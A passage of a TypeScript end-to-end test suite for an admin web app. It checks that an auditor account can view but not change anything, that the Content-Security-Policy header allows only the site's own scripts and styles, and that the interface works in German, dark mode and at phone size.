  it('lets an auditor read and change nothing', async () => {
    const demo = await asDemo();
    const userName = 'auditor@example.com';
    const made = await demo.post<{ data: { one_time_password: string } }>('/admin/v1/users', {
      user_name: userName,
      role: 'auditor',
    });
    const [password, newPassword] = [made.data.one_time_password, 'a password of the auditor'];
    await demo.post('/idm/v1/auth/password', { userName, password, newPassword });
    const auditor = await Visitor.at(browser, origin);
    await auditor.open('/privacy');
    await auditor.logIn({ userName, password: newPassword });
    await auditor.page.getByText('You may read the policy').waitFor();
    const links = await auditor.page.locator('.sidebar a').allTextContents();
    const names = links.map((name) => name.trim());
    expect(names).toEqual(
      expect.arrayContaining(['Privacy', 'Usage and budgets', 'Jobs and webhooks', 'Audit']),
    );
    for (const hidden of ['People', 'Groups', 'Status']) expect(names).not.toContain(hidden);
    const changes = /^(Save|New budget|Change|Remove|Deliver again|Add|Replace|Import)/;
    for (const screen of ['privacy', 'usage', 'jobs', 'audit']) {
      await auditor.follow(`/${screen}`);
      await auditor.settled();
      for (const tab of [undefined, ...(await auditor.page.getByRole('tab').all())]) {
        await tab?.click();
        await auditor.settled();
        const open = auditor.page.locator('main').getByRole('button', { name: changes, disabled: false });
        expect([screen, await open.allTextContents()]).toEqual([screen, []]);
      }
    }
    await auditor.page.getByRole('button', { name: 'Verify' }).click();
    await auditor.page.getByText('The audit trail is complete').waitFor();
    await auditor.follow('/jobs');
    await auditor.page.getByRole('button', { name: 'Details' }).first().click();
    expect(await auditor.page.getByRole('dialog').getByRole('button').allTextContents()).not.toContain(
      'Deliver again',
    );
    expect(auditor.wrong).toEqual([]);
    await auditor.leave();
  });

  it('answers programs as before, and allows browsers only its own scripts and styles [SEC-40]', async () => {
    await visitor.open('/nowhere');
    await page.getByRole('heading', { name: 'No such page' }).waitFor();
    const program = await fetch(`${origin}/nowhere`);
    expect([program.status, program.headers.get('content-type')]).toEqual([
      404,
      'application/json; charset=utf-8',
    ]);
    const policy = (await fetch(origin)).headers.get('content-security-policy');
    expect(policy).toContain("script-src 'self';style-src 'self'");
    expect(policy).not.toContain('unsafe');
  });

  it('is complete in German, in dark mode and on a phone', async () => {
    await visitor.follow('/keys');
    await page.setViewportSize({ width: 360, height: 740 });
    await visitor.prefer({ language: 'de', theme: 'dark' });
    await page.getByText('Reports').waitFor();
    expect(await visitor.look()).toEqual({ language: 'de', background: 'rgb(19, 21, 23)' });
    expect(await visitor.faults()).toEqual([]);
  });

  /** Calls as a program does, with the login of the demo user. */
  async function asDemo() {
    const call = async <T>(method: string, path: string, body?: object, token?: string): Promise<T> => {
      const answer = await fetch(origin + path, {
        method,
        headers: { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) },
        ...(body && { body: JSON.stringify(body) }),
      });
      expect([path, answer.ok]).toEqual([path, true]);
      return (await answer.json()) as T;
    };
    const { jwtToken } = await call<{ jwtToken: string }>('POST', '/idm/v1/auth/login', login);
    return {
      get: <T>(path: string) => call<T>('GET', path, undefined, jwtToken),
      post: <T>(path: string, body: object) => call<T>('POST', path, body, jwtToken),
    };
  }

  async function submitJob(): Promise<void> {
    const { port } = receiver.address() as AddressInfo;
    const text = 'Write to ann@example.com';
    const job = { text, lang: 'en', webhook_url: `http://127.0.0.1:${port}/hook` };
    await (await asDemo()).post('/ai/v1/job/anonymize', job);
    await eventually(() => expect(received).toBeGreaterThan(0));
  }
});
